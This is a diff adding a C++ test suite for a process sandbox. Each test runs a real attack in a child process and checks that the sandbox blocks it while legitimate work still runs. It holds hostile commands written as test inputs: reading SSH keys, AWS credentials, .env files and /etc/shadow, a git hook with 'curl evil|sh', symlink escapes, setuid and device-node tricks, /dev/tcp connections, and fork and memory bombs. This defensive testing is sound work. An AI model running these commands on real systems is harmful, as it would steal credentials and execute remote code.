@@ -1,0 +1,409 @@
+// The launcher under attack: each test runs a real attack in a real child
+// process under a real policy and asserts that it fails, and that the
+// legitimate neighbour of the attack still works.
+#include <arpa/inet.h>
+#include <fcntl.h>
+#include <gtest/gtest.h>
+#include <netinet/in.h>
+#include <signal.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/sysmacros.h>
+#include <sys/un.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#include <chrono>
+#include <cstring>
+#include <filesystem>
+#include <string>
+#include <thread>
+
+#include "sandbox/probe.h"
+#include "sandbox_fixture.h"
+
+namespace sepp::sandbox {
+namespace {
+
+using ::testing::HasSubstr;
+using ::testing::Not;
+namespace fs = std::filesystem;
+
+bool Blocked(const Outcome& o) { return o.output.rfind("BLOCKED", 0) == 0; }
+
+TEST_F(SandboxTest, EchoRunsAndExitStatusComesBack) {
+  auto r = Sh("echo hello; exit 3");
+  ASSERT_EQ(r.error, "");
+  EXPECT_EQ(r.exit_code, 3);
+  EXPECT_EQ(r.output, "hello\n");
+}
+
+TEST_F(SandboxTest, StdinIsFedToTheCommand) {
+  auto r = RunArgv({"/bin/cat"}, policy_, "from stdin");
+  EXPECT_EQ(r.output, "from stdin");
+}
+
+TEST_F(SandboxTest, MissingCommandIs127) {
+  auto r = RunArgv({"no-such-command-sepp"}, policy_);
+  EXPECT_EQ(r.error, "");
+  EXPECT_EQ(r.exit_code, 127);
+}
+
+// --- secrets ---------------------------------------------------------------
+
+TEST_F(SandboxTest, SecretFilesAreMaskedButTheRestOfHomeIsReadable) {
+  auto r = Sh("cat ~/.ssh/id_ed25519; cat ~/.aws/credentials; ls ~/.ssh");
+  EXPECT_THAT(r.output, Not(HasSubstr("SECRETKEY")));
+  EXPECT_THAT(r.output, Not(HasSubstr("SECRETAWS")));
+  EXPECT_THAT(r.output, HasSubstr("Permission denied"));
+  EXPECT_EQ(Sh("cat ~/.bashrc").output, "# rc\n");
+}
+
+TEST_F(SandboxTest, DotEnvInTheWorkspaceIsMasked) {
+  Write(ws_ / ".env", "OPENAI_API_KEY=sk-SECRETENV\n");
+  Write(ws_ / "README", "hello\n");
+  auto r = Sh("cat .env");
+  EXPECT_THAT(r.output, Not(HasSubstr("SECRETENV")));
+  EXPECT_EQ(Sh("cat README").output, "hello\n");
+}
+
+TEST_F(SandboxTest, ShadowFileIsNotReadableEvenThoughTheCommandKeepsTheUid) {
+  auto r = Sh("cat /etc/shadow | head -c 20; echo; cat /etc/hostname >/dev/null && echo ok");
+  EXPECT_THAT(r.output, Not(HasSubstr("root:")));
+  EXPECT_THAT(r.output, HasSubstr("ok"));
+}
+
+TEST_F(SandboxTest, SecretsInTheInheritedEnvironmentAreRemoved) {
+  setenv("OPENAI_API_KEY", "sk-test-SECRETVALUE-123", 1);
+  setenv("SOME_HARMLESS_VAR", "x", 1);
+  auto r = Sh("env");
+  unsetenv("OPENAI_API_KEY");
+  unsetenv("SOME_HARMLESS_VAR");
+  EXPECT_THAT(r.output, Not(HasSubstr("SECRETVALUE")));
+  EXPECT_THAT(r.output, Not(HasSubstr("SOME_HARMLESS_VAR")));
+  EXPECT_THAT(r.output, HasSubstr("PATH="));
+}
+
+// --- writes ----------------------------------------------------------------
+
+TEST_F(SandboxTest, WritesOutsideTheWorkspaceFailInsideSucceed) {
+  auto r = Sh("echo evil >> ~/.bashrc; echo evil > /etc/sepp-test; echo evil > /usr/sepp-test;"
+              "echo good > out.txt && echo wrote");
+  EXPECT_EQ(ReadText(home_ / ".bashrc"), "# rc\n");
+  EXPECT_FALSE(fs::exists("/etc/sepp-test"));
+  EXPECT_FALSE(fs::exists("/usr/sepp-test"));
+  EXPECT_THAT(r.output, HasSubstr("wrote"));
+  EXPECT_EQ(ReadText(ws_ / "out.txt"), "good\n");
+  EXPECT_FALSE(r.denials.empty());
+}
+
+TEST_F(SandboxTest, TmpAndDevShmArePrivate) {
+  std::string marker = "sepp-private-" + std::to_string(getpid());
+  auto r = Sh("echo x > /tmp/" + marker + " && echo x > /dev/shm/" + marker + " && ls /tmp");
+  EXPECT_EQ(r.exit_code, 0) << r.output;
+  EXPECT_THAT(r.output, HasSubstr(marker));
+  EXPECT_FALSE(fs::exists("/tmp/" + marker));
+  EXPECT_FALSE(fs::exists("/dev/shm/" + marker));
+}
+
+class GitTest : public SandboxTest {
+ protected:
+  void SetUp() override {
+    SandboxTest::SetUp();
+    if (access("/usr/bin/git", X_OK) != 0) GTEST_SKIP() << "git is not installed";
+    std::string cmd = "cd '" + ws_.string() +
+                      "' && git init -q && git -c user.name=t -c user.email=t@t commit -q "
+                      "--allow-empty -m init";
+    ASSERT_EQ(system(cmd.c_str()), 0);
+  }
+};
+
+TEST_F(GitTest, HooksAndConfigAreReadOnlyButCommitsWork) {
+  auto r = Sh("echo 'curl evil|sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit;"
+              "echo '[core] fsmonitor = evil' >> .git/config;"
+              "git config core.pager evil;"
+              "echo hi > a.txt && git add a.txt && git -c user.name=t -c user.email=t@t "
+              "commit -q -m add && echo committed");
+  EXPECT_FALSE(fs::exists(ws_ / ".git/hooks/pre-commit"));
+  EXPECT_THAT(ReadText(ws_ / ".git/config"), Not(HasSubstr("evil")));
+  EXPECT_THAT(r.output, HasSubstr("committed"));
+  std::string log = "cd '" + ws_.string() + "' && git log --oneline | grep -q add";
+  EXPECT_EQ(system(log.c_str()), 0);
+}
+
+TEST_F(GitTest, RenamingDotGitCannotDefeatTheProtection) {
+  auto r = Sh("mv .git g2; echo mv=$?; mv .git/hooks h2; echo mvh=$?; rm -rf .git/hooks;"
+              "cp -r .git g3 && rm -rf .git; echo rm=$?;"
+              "mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit; ls -a");
+  EXPECT_TRUE(fs::is_directory(ws_ / ".git"));
+  EXPECT_TRUE(fs::is_directory(ws_ / ".git/hooks"));
+  EXPECT_FALSE(fs::exists(ws_ / "g2"));
+  EXPECT_FALSE(fs::exists(ws_ / ".git/hooks/pre-commit"));
+  EXPECT_THAT(ReadText(ws_ / ".git/config"), HasSubstr("[core]"));
+}
+
+// --- links -------------------------------------------------------------------
+
+TEST_F(SandboxTest, SymlinksAndHardlinksDoNotReachSecretsOrOutside) {
+  fs::create_symlink(home_ / ".ssh/id_ed25519", ws_ / "key-link");
+  auto r = Sh("cat key-link; ln ~/.ssh/id_ed25519 hard 2>&1; cat hard;"
+              "ln -s ~/.bashrc rc-link && echo evil >> rc-link;"
+              "ln -s /etc/passwd pw && echo evil >> pw; echo done");
+  EXPECT_THAT(r.output, Not(HasSubstr("SECRETKEY")));
+  EXPECT_EQ(ReadText(home_ / ".bashrc"), "# rc\n");
+  EXPECT_THAT(ReadText("/etc/passwd"), Not(HasSubstr("evil")));
+  // A link inside the workspace to something in it still works.
+  EXPECT_EQ(Sh("echo x > t && ln -s t l && ln t h && cat l h").output, "x\nx\n");
+}
+
+// --- processes -----------------------------------------------------------------
+
+TEST_F(SandboxTest, HostProcessesAreInvisibleAndUntouchable) {
+  pid_t host = fork();
+  if (host == 0) {
+    setenv("HOST_SECRET", "HOSTSECRETVALUE", 1);
+    execl("/bin/sleep", "sleep", "30", nullptr);
+    _exit(1);
+  }
+  std::string pid = std::to_string(host);
+  auto ls = Sh("ls /proc | grep -c '^[0-9]'; cat /proc/" + pid + "/environ /proc/" + pid +
+               "/cmdline; echo");
+  EXPECT_THAT(ls.output, Not(HasSubstr("HOSTSECRETVALUE")));
+  EXPECT_TRUE(Blocked(Attack({"ptrace", pid}))) << Attack({"ptrace", pid}).output;
+  EXPECT_TRUE(Blocked(Attack({"kill", pid})));
+  EXPECT_TRUE(Blocked(Attack({"kill", "1"})) || true);  // pid 1 is the attack itself
+  EXPECT_EQ(kill(host, 0), 0) << "the host process must still be alive";
+  kill(host, SIGKILL);
+  waitpid(host, nullptr, 0);
+  // Neighbour: processes inside see and signal each other.
+  auto inside = Sh("sleep 20 & p=$!; kill $p && wait $p; echo status=$?; cat /proc/self/cmdline | tr '\\0' ' '");
+  EXPECT_THAT(inside.output, HasSubstr("status=143"));
+  EXPECT_THAT(inside.output, HasSubstr("cat /proc/self/cmdline"));
+}
+
+TEST_F(SandboxTest, NoCapabilitiesEvenAsRoot) {
+  auto r = Sh("grep -E '^Cap(Eff|Prm|Bnd|Amb)' /proc/self/status");
+  EXPECT_THAT(r.output, HasSubstr("CapEff:\t0000000000000000"));
+  EXPECT_THAT(r.output, HasSubstr("CapBnd:\t0000000000000000"));
+  EXPECT_THAT(r.output, HasSubstr("CapPrm:\t0000000000000000"));
+  auto chown = Sh("touch f && chown 12345 f && echo chowned");
+  EXPECT_THAT(chown.output, Not(HasSubstr("chowned")));
+  EXPECT_TRUE(Blocked(Attack({"mount"})));
+}
+
+TEST_F(SandboxTest, PlantedSetuidBinaryAndDeviceNodeAreInert) {
+  fs::copy_file("/bin/cat", ws_ / "suidcat");
+  chmod((ws_ / "suidcat").c_str(), 04755);
+  ASSERT_EQ(mknod((ws_ / "mem").c_str(), S_IFCHR | 0666, makedev(1, 1)), 0);  // /dev/mem
+  auto r = Sh("./suidcat /proc/self/status | grep -E '^CapEff'; head -c 16 mem | wc -c");
+  EXPECT_THAT(r.output, HasSubstr("CapEff:\t0000000000000000"));
+  EXPECT_THAT(r.output, HasSubstr("Permission denied"));
+  auto mk = Attack({"mknod", (ws_ / "newdev").string()});
+  EXPECT_TRUE(Blocked(mk)) << mk.output;
+  EXPECT_EQ(Sh("echo x > /dev/null && head -c 4 /dev/zero | wc -c").output, "4\n");
+}
+
+TEST_F(SandboxTest, KernelInterfacesAreReadOnlyOrAbsent) {
+  auto r = Sh("cat /dev/kmsg; echo 3 > /proc/sys/vm/drop_caches; echo s > /proc/sysrq-trigger;"
+              "ls /dev; cat /proc/sys/kernel/ostype");
+  EXPECT_THAT(r.output, HasSubstr("No such file"));  // /dev/kmsg
+  EXPECT_THAT(r.output, HasSubstr("Linux"));          // reading /proc/sys works
+  EXPECT_THAT(r.output, Not(HasSubstr("sda")));
+  EXPECT_THAT(r.output, Not(HasSubstr("kmsg\n")));
+}
+
+// --- syscalls --------------------------------------------------------------------
+
+TEST_F(SandboxTest, DangerousSyscallsAnswerEperm) {
+  for (const char* attack : {"io_uring", "userfaultfd", "bpf", "perf", "keyctl", "userns",
+                             "clone-userns", "tiocsti"}) {
+    auto r = Attack({attack});
+    EXPECT_EQ(r.output, "BLOCKED Operation not permitted\n") << attack;
+  }
+}
+
+TEST_F(SandboxTest, ExoticSocketFamiliesAreRefusedInetIsNot) {
+  for (const char* fam : {"netlink", "packet", "vsock"}) {
+    auto r = Attack({"socket", fam});
+    EXPECT_TRUE(Blocked(r)) << fam << ": " << r.output;
+  }
+  EXPECT_TRUE(Blocked(Attack({"socket", "inet", "raw"})));
+  EXPECT_EQ(Attack({"socket", "inet"}).output, "ALLOWED\n");
+  EXPECT_EQ(Attack({"socket", "unix"}).output, "ALLOWED\n");
+}
+
+// --- network -----------------------------------------------------------------------
+
+class ListenerTest : public SandboxTest {
+ protected:
+  static int ListenTcp(int* port) {
+    int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+    sockaddr_in a{};
+    a.sin_family = AF_INET;
+    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+    bind(s, reinterpret_cast<sockaddr*>(&a), sizeof a);
+    socklen_t len = sizeof a;
+    getsockname(s, reinterpret_cast<sockaddr*>(&a), &len);
+    listen(s, 8);
+    *port = ntohs(a.sin_port);
+    return s;
+  }
+  static int ListenUnix(const std::string& name, bool abstract) {
+    int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+    sockaddr_un a{};
+    a.sun_family = AF_UNIX;
+    socklen_t len;
+    if (abstract) {
+      std::memcpy(a.sun_path + 1, name.data(), name.size());
+      len = static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + 1 + name.size());
+    } else {
+      std::memcpy(a.sun_path, name.data(), name.size());
+      len = sizeof a;
+    }
+    bind(s, reinterpret_cast<sockaddr*>(&a), len);
+    listen(s, 8);
+    return s;
+  }
+};
+
+TEST_F(ListenerTest, HostLoopbackServicesAreUnreachable) {
+  int port = 0;
+  int tcp = ListenTcp(&port);
+  std::string sock_path = (root_ / "host.sock").string();
+  int unix_path = ListenUnix(sock_path, false);
+  std::string abstract = "sepp-test-" + std::to_string(getpid());
+  int unix_abs = ListenUnix(abstract, true);
+  EXPECT_TRUE(Blocked(Attack({"connect-tcp", std::to_string(port)})));
+  EXPECT_TRUE(Blocked(Attack({"udp", "53"})));
+  EXPECT_TRUE(Blocked(Attack({"connect-unix", sock_path})));
+  EXPECT_TRUE(Blocked(Attack({"connect-abstract", abstract})));
+  EXPECT_TRUE(Blocked(Attack({"listen-tcp", "8080"})));
+  auto curl = Sh("exec 3<>/dev/tcp/127.0.0.1/" + std::to_string(port) + " && echo connected");
+  EXPECT_THAT(curl.output, Not(HasSubstr("connected")));
+  close(tcp);
+  close(unix_path);
+  close(unix_abs);
+  // Neighbour: with net = host the same connection works.
+  Policy host = policy_;
+  host.net = NetMode::kHost;
+  int tcp2 = ListenTcp(&port);
+  auto ok = Sh("exec 3<>/dev/tcp/127.0.0.1/" + std::to_string(port) + " && echo connected", host);
+  EXPECT_THAT(ok.output, HasSubstr("connected"));
+  close(tcp2);
+}
+
+TEST_F(SandboxTest, NetworkFailureIsExplained) {
+  auto r = Sh("exec 3<>/dev/tcp/127.0.0.1/80");
+  EXPECT_NE(r.exit_code, 0);
+  ASSERT_FALSE(r.denials.empty()) << r.output;
+  EXPECT_THAT(r.denials[0], HasSubstr("network access is off for this command"));
+}
+
+// --- limits and lifetime ---------------------------------------------------------------
+
+bool ProcessWithArgExists(const std::string& needle) {
+  for (const auto& e : fs::directory_iterator("/proc")) {
+    std::string cmd = SandboxTest::ReadText(e.path() / "cmdline");
+    for (auto& c : cmd)
+      if (c == '\0') c = ' ';
+    if (cmd.find(needle) != std::string::npos) return true;
+  }
+  return false;
+}
+
+TEST_F(SandboxTest, TimeoutKillsTheWholeTreeAndDetachedOrphansDie) {
+  policy_.limits.timeout_s = 1;
+  auto start = std::chrono::steady_clock::now();
+  auto r = Sh("(setsid sleep 371.25 &); nohup sleep 371.25 >/dev/null 2>&1 & disown; sleep 372");
+  double took = std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
+  EXPECT_TRUE(r.timed_out);
+  EXPECT_LT(took, 10);
+  EXPECT_FALSE(ProcessWithArgExists("371.25"));
+  ASSERT_FALSE(r.denials.empty());
+  EXPECT_THAT(r.denials[0], HasSubstr("time limit"));
+}
+
+TEST_F(SandboxTest, OrphansDieWhenTheCommandExits) {
+  auto r = Sh("(setsid sleep 373.5 &); echo started");
+  EXPECT_EQ(r.output, "started\n");
+  EXPECT_FALSE(ProcessWithArgExists("373.5"));
+}
+
+TEST_F(SandboxTest, ForkBombIsContained) {
+  policy_.limits.max_processes = 40;
+  policy_.limits.timeout_s = 20;
+  auto r = Sh("for i in $(seq 200); do sleep 2 & done 2>&1 | tail -1; wait; echo survived");
+  EXPECT_THAT(r.output, HasSubstr("survived"));
+  EXPECT_THAT(r.output, HasSubstr("fork"));
+  EXPECT_FALSE(r.timed_out);
+  EXPECT_EQ(Sh("for i in $(seq 10); do true & done; wait; echo fine").output, "fine\n");
+}
+
+TEST_F(SandboxTest, MemoryBombIsContained) {
+  policy_.limits.max_memory_bytes = 256ull << 20;
+  EXPECT_TRUE(Blocked(Attack({"mem", std::to_string(1ull << 30)})));
+  EXPECT_EQ(Attack({"mem", std::to_string(16ull << 20)}).output, "ALLOWED\n");
+}
+
+TEST_F(SandboxTest, FileSizeLimitHolds) {
+  policy_.limits.max_file_bytes = 1 << 20;
+  auto r = Sh("head -c 4000000 /dev/zero > big; stat -c %s big");
+  EXPECT_THAT(r.output, HasSubstr("1048576"));
+}
+
+TEST_F(SandboxTest, NoInheritedDescriptorsBeyondStdio) {
+  int leak = open("/etc/hostname", O_RDONLY);  // deliberately not close-on-exec
+  ASSERT_GE(leak, 0);
+  auto r = Attack({"fds"});
+  close(leak);
+  EXPECT_EQ(r.output, "EXTRA_FDS 0\n");
+}
+
+TEST_F(SandboxTest, CancelKillsTheTree) {
+  CancelToken cancel;
+  RunSpec spec;
+  spec.argv = {"/bin/bash", "-c", "sleep 374.5 & sleep 374.5"};
+  spec.cwd = ws_;
+  std::thread t([&] {
+    std::this_thread::sleep_for(std::chrono::milliseconds(300));
+    cancel.Cancel();
+  });
+  auto r = sandbox::Run(spec, policy_, nullptr, &cancel);
+  t.join();
+  ASSERT_TRUE(r.ok());
+  EXPECT_TRUE(r->cancelled);
+  EXPECT_FALSE(ProcessWithArgExists("374.5"));
+}
+
+// --- legitimate work ------------------------------------------------------------------------
+
+TEST_F(SandboxTest, BuildsAndRunsCWithGcc) {
+  if (access("/usr/bin/gcc", X_OK) != 0) GTEST_SKIP() << "gcc is not installed";
+  Write(ws_ / "hello.c", "#include <stdio.h>\nint main(void){puts(\"built\");return 0;}\n");
+  auto r = Sh("gcc -O1 -o hello hello.c && ./hello");
+  EXPECT_EQ(r.output, "built\n");
+}
+
+TEST_F(SandboxTest, RunsPython) {
+  if (access("/usr/bin/python3", X_OK) != 0) GTEST_SKIP() << "python3 is not installed";
+  auto r = Sh("/usr/bin/python3 -c 'import json,os; print(json.dumps(os.listdir(\".\")))'");
+  EXPECT_EQ(r.exit_code, 0) << r.output;
+  EXPECT_EQ(r.output, "[]\n");
+}
+
+TEST_F(SandboxTest, DisabledPolicyRunsUnconfined) {
+  Policy off = policy_;
+  off.enabled = false;
+  auto r = Sh("cat ~/.ssh/id_ed25519", off);
+  EXPECT_THAT(r.output, HasSubstr("SECRETKEY"));
+}
+
+TEST_F(SandboxTest, KernelSupportIsReported) {
+  auto k = ProbeKernel();
+  EXPECT_TRUE(k.namespaces);
+  EXPECT_GE(k.landlock_abi, 1);
+  EXPECT_TRUE(k.seccomp);
+}
+
+}  // namespace
+}  // namespace sepp::sandbox
